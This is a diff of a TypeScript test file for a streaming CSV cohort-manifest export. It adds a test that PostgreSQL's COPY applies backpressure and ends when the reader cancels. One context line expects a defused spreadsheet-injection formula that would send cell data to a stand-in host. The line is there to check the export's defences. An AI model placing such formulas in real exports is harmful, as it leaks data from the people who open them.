@@ -4,7 +4,7 @@ import path from "node:path";
 import { sql } from "drizzle-orm";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { labDatasets, storedFiles } from "@/db/schema";
-import { iterateManifest, manifestCsvStream } from "@/lib/api/cohort-manifest";
+import { iterateManifest, MANIFEST_APPLICATION_NAME, manifestCsvStream } from "@/lib/api/cohort-manifest";
 import { csvChunk } from "@/lib/csv/safe-csv";
 import { MANIFEST_COLUMNS } from "@/lib/api/schemas";
 import { getDb } from "@/lib/db/client";
@@ -113,5 +113,51 @@ describe("a cohort manifest", () => {
     expect(text).toContain(`'=HYPERLINK(""http://x.test/?""&A1,""a"")"`);
     expect(text).toContain(",'-2+3,");
   });
-});
 
+  it("is pulled only as fast as its reader reads: PostgreSQL waits to write while the reader pauses, and a reader that goes away ends the COPY", async () => {
+    // ~80 MB of manifest, far more than every buffer between PostgreSQL and the reader (the socket's
+    // send and receive buffers, the COPY stream's 16 KiB, the web stream's one chunk): long paths,
+    // stored compressed, written out whole.
+    const extra = 20_000;
+    await getDb().execute(sql`insert into mimic_study (dataset_id, study_id, subject_id) select ${datasetId}, 90000000 + n, 19000000 + n from generate_series(1, ${extra}) n`);
+    await getDb().execute(sql`
+      insert into mimic_study_facet (dataset_id, study_id, subject_id, chexpert_bits, negbio_bits, view_bits, flags, tokens)
+      select ${datasetId}, 90000000 + n, 19000000 + n, 0, 0, 0, 0, '{}' from generate_series(1, ${extra}) n`);
+    await getDb().execute(sql`
+      insert into mimic_image (dataset_id, dicom_id, study_id, subject_id, path)
+      select ${datasetId}, 'bulk' || n, 90000000 + n, 19000000 + n, 'files/bulk/' || n || '/' || repeat('x', 4000) || '.dcm' from generate_series(1, ${extra}) n`);
+    const backend = async () =>
+      (await getDb().execute<{ state: string; wait_event: string | null }>(sql`
+        select state, wait_event from pg_stat_activity where datname = current_database() and application_name = ${MANIFEST_APPLICATION_NAME} and backend_type = 'client backend'`)).rows;
+    const until = async (what: string, ok: () => Promise<boolean>) => {
+      for (let i = 0; i < 600; i++) {
+        if (await ok()) return;
+        await new Promise((r) => setTimeout(r, 100));
+      }
+      throw new Error(`never: ${what}`);
+    };
+    try {
+      const reader = manifestCsvStream({ labId, datasetId, filters: filters("") }).getReader();
+      let read = 0;
+      while (read < 1_000_000) {
+        const { value, done } = await reader.read();
+        if (done) throw new Error("the manifest ended before 1 MB");
+        read += value.byteLength;
+      }
+      // The reader pauses. PostgreSQL is left waiting to write: the server is not draining the COPY into memory.
+      await until("PostgreSQL waits to write the manifest", async () => (await backend()).some((b) => b.state === "active" && b.wait_event === "ClientWrite"));
+      await new Promise((r) => setTimeout(r, 2000));
+      expect(await backend(), "still waiting after two more seconds").toEqual([{ state: "active", wait_event: "ClientWrite" }]);
+      // The reader goes away: the COPY's connection is closed, the statement ends.
+      await reader.cancel();
+      await until("the manifest's connection is closed", async () => {
+        const left = await getDb().execute(sql`select 1 from pg_stat_activity where datname = current_database() and application_name = ${MANIFEST_APPLICATION_NAME}`);
+        return left.rows.length === 0;
+      });
+    } finally {
+      await getDb().execute(sql`delete from mimic_image where dataset_id = ${datasetId} and study_id > 90000000`);
+      await getDb().execute(sql`delete from mimic_study_facet where dataset_id = ${datasetId} and study_id > 90000000`);
+      await getDb().execute(sql`delete from mimic_study where dataset_id = ${datasetId} and study_id > 90000000`);
+    }
+  }, 120_000);
+});
